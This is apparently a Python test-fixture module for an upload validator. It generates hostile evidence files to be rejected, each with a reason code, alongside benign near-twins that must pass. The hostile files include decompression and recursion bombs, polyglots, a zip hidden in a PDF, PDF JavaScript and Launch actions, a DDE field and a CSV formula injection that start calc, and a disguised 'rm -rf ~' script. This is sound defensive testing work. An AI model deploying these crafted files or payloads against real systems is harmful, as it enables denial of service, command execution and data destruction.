"""Evidence files that must be refused, each with the code that says why, and honest twins that must pass."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING, Any

import pikepdf
import xlsxwriter
from pikepdf import Array, Dictionary, Name
from PIL import Image

if TYPE_CHECKING:
    from collections.abc import Callable

LFS = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"4d" * 32 + b"\nsize 123456\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
MHTML = b"From: <Saved>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def picture(form: str, *, size: tuple[int, int] = (60, 40), **options: Any) -> bytes:
    out = io.BytesIO()
    image = Image.new("RGB", size, (200, 30, 40))
    image.paste((20, 90, 160), (0, 0, size[0] // 2, size[1] // 2))
    image.save(out, form, **options)
    return out.getvalue()


def archive(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, body in parts.items():
            made.writestr(name, body)
    return out.getvalue()


def docx(
    *,
    said: str = "Berita acara rapat",
    main: str = WORD,
    body: str = "",
    relations: str = "",
    parts: dict[str, bytes] | None = None,
) -> bytes:
    paragraph = f"<w:p><w:r><w:t>{said}</w:t></w:r></w:p>"
    return archive(
        {
            "[Content_Types].xml": (
                f'<?xml version="1.0"?><Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
            ).encode(),
            "_rels/.rels": (
                f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
                'Target="word/document.xml"/></Relationships>'
            ).encode(),
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}">{relations}</Relationships>'.encode(),
            "word/document.xml": (
                f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>{paragraph}{body}</w:body></w:document>'
            ).encode(),
            **(parts or {}),
        }
    )


def link(kind: str, target: str) -> str:
    return f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


def xlsx(fill: Callable[[Any], None] = lambda _book: None) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    book.add_worksheet("Data").write_row(0, 0, ["Bulan", "Jumlah"])
    fill(book)
    book.close()
    return out.getvalue()


def with_parts(package: bytes, parts: dict[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as old:
        return archive({name: old.read(name) for name in old.namelist()} | parts)


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _document: None, **options: Any) -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(595, 842))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = document.make_stream(b"BT /F1 12 Tf 72 760 Td (Surat keputusan tentang zona integritas) Tj ET")
    change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def note(document: pikepdf.Pdf, **values: Any) -> None:
    made = Dictionary(Type=Name.Annot, Rect=[72, 700, 200, 720], **values)
    document.pages[0].obj.Annots = Array([document.make_indirect(made)])


def action(kind: str, **values: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **values)


def set_root(**values: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        for key, value in values.items():
            document.Root[f"/{key}"] = value

    return change


def embedded(document: pikepdf.Pdf) -> None:
    document.attachments["gaji.xlsx"] = pikepdf.AttachedFileSpec(
        document, b"PK rahasia", filename="gaji.xlsx", description="", mime_type="", creation_date="", mod_date=""
    )


def widget(document: pikepdf.Pdf) -> None:
    field(document, AA=Dictionary(K=action("JavaScript", JS="x()")))


def field(document: pikepdf.Pdf, **values: Any) -> None:
    note(document, Subtype=Name.Widget, FT=Name.Tx, T="nama", V="Bagian Umum", **values)
    document.Root.AcroForm = document.make_indirect(Dictionary(Fields=document.pages[0].obj.Annots))


def bomb(document: pikepdf.Pdf, *, megabytes: int = 500) -> None:
    document.pages[0].obj.Contents = packed(document, zeros(megabytes))


def double_bomb(document: pikepdf.Pdf) -> None:
    content = packed(document, zlib.compress(zeros(400), 9))
    content.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    document.pages[0].obj.Contents = content


def packed(document: pikepdf.Pdf, raw: bytes) -> pikepdf.Stream:
    stream = document.make_stream(b"")
    stream.write(raw, filter=Name.FlateDecode)
    return stream


def zeros(megabytes: int) -> bytes:
    """Pack that many megabytes of zeros by packing one and repeating its block."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.flush()[:-4]
    return head + block * megabytes + end + struct.pack(">HH", megabytes * 1_000_000 % 65_521, 1)


def laughter(document: pikepdf.Pdf) -> None:
    """Let each form draw the next ten times: ten levels are ten thousand million letters."""
    below = document.make_stream(b"BT /F1 8 Tf " + b"(ha) Tj " * 200 + b"ET")
    resources = document.pages[0].obj.Resources
    for _ in range(10):
        below.Type, below.Subtype, below.BBox = Name.XObject, Name.Form, Array([0, 0, 600, 900])
        below.Resources = resources
        resources = Dictionary(XObject=Dictionary(Fm=below))
        below = document.make_stream(b"/Fm Do " * 10)
    document.pages[0].obj.Resources = resources
    document.pages[0].obj.Contents = below


def object_stream_bomb() -> bytes:
    """Pack 500 MB into the stream that a reader must unpack before it sees a single object."""
    stream = zeros(500)
    body = b"%PDF-1.7\n"
    held = b"<< /Type /ObjStm /N 2 /First 12 /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
    at = len(body)
    body += b"1 0 obj\n" + held + stream + b"\nendstream\nendobj\n"
    table = len(body)
    rows = b"".join(struct.pack(">BIB", *row) for row in ((0, 0, 0), (1, at, 0), (2, 1, 0), (2, 1, 1), (1, table, 0)))
    head = b"<< /Type /XRef /Size 5 /W [1 4 1] /Root 2 0 R /Length %d >>\nstream\n" % len(rows)
    body += b"4 0 obj\n" + head + rows + b"\nendstream\nendobj\n"
    return body + b"startxref\n%d\n%%%%EOF\n" % table


def huge_image(document: pikepdf.Pdf) -> None:
    image = packed(document, zeros(1))
    image.Type, image.Subtype, image.ColorSpace, image.BitsPerComponent = Name.XObject, Name.Image, Name.DeviceGray, 8
    image.Width = image.Height = 60_000
    document.pages[0].obj.Resources.XObject = Dictionary(Im=image)


def raw_pdf(root: bytes, *objects: bytes) -> bytes:
    """Write a PDF by hand, for what a library would refuse to write."""
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate([root, *objects], start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(offsets) + 1
    tail = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + tail


def own_grandmother() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>", page)


def nested(depth: int) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * depth + b"]" * depth + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
    )


def wide_png(width: int, height: int) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    packer = zlib.compressobj(9)
    pixels = b"".join(packer.compress(bytes(width // 8 + 1)) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def layer(document: pikepdf.Pdf, *, off: bool) -> None:
    group = document.make_indirect(Dictionary(Type=Name.OCG, Name="Catatan"))
    hidden = Array([group]) if off else Array()
    document.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(OFF=hidden))


def zip_inside_pdf() -> bytes:
    """Hide an archive in a comment of a PDF, its directory behind the end mark's own comment."""
    inner = archive({"program.exe": b"MZ"})
    head = pdf()
    body = head[: head.rindex(b"%%EOF")] + b"%"
    start = len(body)
    at = inner.rindex(b"PK\x05\x06")
    directory = int.from_bytes(inner[at + 16 : at + 20], "little")
    entry = inner[:directory] + inner[directory:at]
    tail = b"\n%%EOF\n"
    end = inner[at : at + 16] + struct.pack("<IH", start + directory, len(tail))
    return body + entry + end + tail


def overlapping(package: bytes) -> bytes:
    """Let two names of the directory share the same bytes."""
    at = package.rindex(b"PK\x05\x06")
    start = int.from_bytes(package[at + 16 : at + 20], "little")
    entries = package[start:at]
    first = entries[: entries.index(b"PK\x01\x02", 4)]
    twin = first.replace(b"[Content_Types].xml", b"[content_Twins].xml")
    count = int.from_bytes(package[at + 8 : at + 10], "little") + 1
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entries + twin), start, 0)
    return package[:start] + entries + twin + end


def encrypted(*, user: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="kunci", user=user))


def goto(kind: str) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = action(kind, D=Array([document.pages[0].obj, Name.Fit]))

    return change


EXTERNAL = {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
HYPERLINK = link("hyperlink", "https://jdih.kpu.go.id/")
DDE = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'


def hostile() -> dict[str, tuple[bytes, str]]:
    """Make every file that must be refused: its name, its bytes, the code."""
    jpeg, png, webp = picture("JPEG"), picture("PNG"), picture("WEBP")
    return {
        # first, for it kills the process that opens it: all others must fare as if it had not been there
        "bom-tawa.pdf": (pdf(laughter), "ZI405"),
        # disguised: the name lies
        "halaman.pdf": (HTML, "ZI402"),
        "program.jpg": (b"MZ\x90\x00" + bytes(600), "ZI402"),
        "gambar.png": (SVG, "ZI402"),
        "foto.pdf": (jpeg, "ZI402"),
        "surat.jpg": (pdf(), "ZI402"),
        "tabel.docx": (xlsx(), "ZI402"),
        "lama.docx": (OLE, "ZI402"),
        "arsip.xlsx": (archive({"isi.txt": b"halo"}), "ZI402"),
        "arsip-web.pdf": (MHTML, "ZI402"),
        "data.csv": (HTML, "ZI402"),
        "skrip.csv": (b"#!/bin/sh\nrm -rf ~\n", "ZI402"),
        "ansi.csv": ("nama,kota\nJos\xe9,Demak\n".encode("cp1252"), "ZI402"),
        "biner.csv": (b"a,b\n1,\x00\x01\x02\n", "ZI402"),
        "gerak.webp": (picture("GIF"), "ZI402"),
        # kinds that are not allowed, whatever is in them
        "gambar.svg": (SVG, "ZI401"),
        "halaman.html": (HTML, "ZI401"),
        "surat.pdf.exe": (pdf(), "ZI401"),
        "arsip.zip": (archive({"isi.txt": b"halo"}), "ZI401"),
        "animasi.png": (picture("PNG", save_all=True, append_images=[Image.new("RGB", (60, 40))]), "ZI401"),
        # macros
        "makro.docm": (docx(main=WORD_MACRO), "ZI409"),
        "makro.docx": (docx(main=WORD_MACRO), "ZI409"),
        "vba.docx": (docx(parts={"word/vbaProject.bin": OLE}), "ZI409"),
        "makro4.xlsx": (with_parts(xlsx(), {"xl/macrosheets/sheet1.xml": b"<macrosheet/>"}), "ZI409"),
        # two kinds in one
        "foto-zip.jpg": (jpeg + archive({"a.txt": b"rahasia"}), "ZI404"),
        "foto-html.png": (png + HTML, "ZI404"),
        "foto-exe.webp": (webp + b"MZ" + bytes(64), "ZI404"),
        "awal.pdf": (b"GIF89a;" + pdf(), "ZI404"),
        "akhir.pdf": (pdf() + HTML, "ZI404"),
        "zip-dalam.pdf": (zip_inside_pdf(), "ZI404"),
        "pdf-dalam.jpg": (picture("JPEG", comment=b"%PDF-1.4 " + b"x" * 40), "ZI404"),
        "depan.docx": (b"PK\x03\x04" + bytes(30) + docx(), "ZI404"),
        "kembar.docx": (overlapping(docx()), "ZI404"),
        # bombs
        "bom.png": (wide_png(9_000, 9_000), "ZI405"),
        "bom.pdf": (pdf(bomb), "ZI405"),
        "bom-ganda.pdf": (pdf(double_bomb), "ZI405"),
        "bom-gambar.pdf": (pdf(huge_image), "ZI405"),
        "bom-objek.pdf": (object_stream_bomb(), "ZI406"),
        "bom.docx": (docx(parts={"word/media/a.png": bytes(20_000_000)}), "ZI405"),
        "berat.csv": (b"a,b\n" + b"1,2\n" * 5_250_000, "ZI405"),
        # broken, empty, locked
        "kosong.pdf": (b"", "ZI406"),
        "penunjuk.pdf": (LFS, "ZI011"),
        "terpotong.pdf": (pdf()[:300], "ZI406"),
        "terpotong.jpg": (jpeg[: len(jpeg) // 2], "ZI406"),
        "terpotong.png": (png[:-20], "ZI406"),
        "sampah.jpg": (jpeg[:200] + bytes(300) + b"\xff\xd9", "ZI406"),
        "terkunci.pdf": (encrypted(user="buka"), "ZI406"),
        "dilindungi.pdf": (encrypted(user=""), "ZI406"),
        "lingkaran.pdf": (own_grandmother(), "ZI406"),
        "dalam.pdf": (nested(400), "ZI405"),
        "sangat-dalam.pdf": (nested(200_000), "ZI406"),
        "entitas.docx": (docx(parts={"word/footnotes.xml": ENTITY}), "ZI406"),
        # active
        "js.pdf": (pdf(set_root(OpenAction=action("JavaScript", JS="app.alert(1)"))), "ZI403"),
        "js-nama.pdf": (pdf(set_root(Names=Dictionary(JavaScript=Dictionary(Names=Array())))), "ZI403"),
        "jalankan.pdf": (pdf(set_root(OpenAction=action("Launch", F="cmd.exe"))), "ZI403"),
        "buka-web.pdf": (pdf(set_root(OpenAction=action("URI", URI="https://contoh.example/"))), "ZI403"),
        "lampiran.pdf": (pdf(embedded), "ZI403"),
        "isian.pdf": (pdf(widget), "ZI403"),
        "kirim.pdf": (pdf(lambda d: note(d, Subtype=Name.Link, A=action("SubmitForm", F="https://x/"))), "ZI403"),
        "tautan-js.pdf": (pdf(lambda d: note(d, Subtype=Name.Link, A=action("URI", URI="javascript:x()"))), "ZI403"),
        "video.pdf": (pdf(lambda d: note(d, Subtype=Name.RichMedia)), "ZI403"),
        "xfa.pdf": (pdf(set_root(AcroForm=Dictionary(XFA=Array(), Fields=Array()))), "ZI403"),
        "ole.docx": (docx(parts={"word/embeddings/oleObject1.bin": OLE}), "ZI403"),
        "templat.docx": (docx(relations=link("attachedTemplate", "https://x.example/t.dotm")), "ZI403"),
        "gambar-luar.docx": (docx(relations=link("image", "https://x.example/a.png")), "ZI403"),
        "dde.docx": (docx(body=DDE), "ZI403"),
        "html.docx": (docx(parts={"word/afchunk.mht": MHTML}), "ZI403"),
        "luar.xlsx": (with_parts(xlsx(), EXTERNAL), "ZI403"),
        "sambungan.xlsx": (with_parts(xlsx(), {"xl/connections.xml": b"<connections/>"}), "ZI403"),
        "rumus.csv": (b"nama,nilai\nBudi,=cmd|' /C calc'!A0\n", "ZI403"),
        # text that is only hidden
        "tandai.pdf": (pdf(lambda d: note(d, Subtype=Name.Redact)), "ZI407"),
        "lapisan.pdf": (pdf(lambda d: layer(d, off=True)), "ZI407"),
    }


def phone_photo() -> bytes:
    """Make a photo with a second picture behind it, as phones write them (multi-picture format)."""
    photo = picture("JPEG")
    marker = b"\xff\xe2" + struct.pack(">H", 2 + 4 + 20) + b"MPF\x00" + bytes(20)
    return photo[:2] + marker + photo[2:] + picture("JPEG", size=(20, 20))


def honest() -> dict[str, bytes]:
    """Make a near-twin of many hostile files that must pass."""
    return {
        "surat.pdf": pdf(),
        "web.pdf": pdf(linearize=True),
        "tautan.pdf": pdf(lambda d: note(d, Subtype=Name.Link, A=action("URI", URI="https://jdih.kpu.go.id/"))),
        "buka-halaman.pdf": pdf(goto("GoTo")),
        "lapisan-tampak.pdf": pdf(lambda d: layer(d, off=False)),
        "formulir.pdf": pdf(field),
        "fon-aa.pdf": pdf(font_aa),
        "padat.pdf": pdf(lambda d: bomb(d, megabytes=3)),
        "dalam.pdf": nested(40),
        "spasi-akhir.pdf": pdf() + b"\r\n" + bytes(40),
        "foto.jpg": picture("JPEG", quality=90),
        "foto.jpeg": picture("JPEG", progressive=True),
        "FOTO-HP.JPG": phone_photo(),
        "foto-cmyk.jpg": cmyk_photo(),
        "lebar.png": wide_png(6_000, 6_000),
        "bening.png": picture("PNG"),
        "foto.webp": picture("WEBP"),
        "acara.docx": docx(),
        "tautan.docx": docx(relations=HYPERLINK),
        "rekap.xlsx": xlsx(lambda book: book.add_worksheet("Kedua").write_formula(0, 0, "=1+1", value=2)),
        "besar.xlsx": xlsx(many_rows),
        "data.csv": b"bulan;jumlah\r\nJanuari;1.234\r\nFebruari;-5\r\n",
        "akun.csv": b"kanal,akun\nInstagram,@kpu_contoh\nTelepon,+62 291 685000\n",
        "bom.csv": b"\xef\xbb\xbfBM,MZ\nBom air,3\n",
    }


def font_aa(document: pikepdf.Pdf) -> None:
    """Name a font as a key of automatic actions is named."""
    fonts = document.pages[0].obj.Resources.Font
    fonts["/AA"] = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name("/Times-Roman"))
    fonts["/JS"] = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name("/Courier"))


def cmyk_photo() -> bytes:
    out = io.BytesIO()
    Image.new("CMYK", (60, 40), (10, 200, 30, 5)).save(out, "JPEG")
    return out.getvalue()


def many_rows(book: Any) -> None:
    sheet = book.add_worksheet("Rekap")
    for row in range(5_000):
        sheet.write_row(row, 0, [f"Kegiatan {row}", row, row * 2])
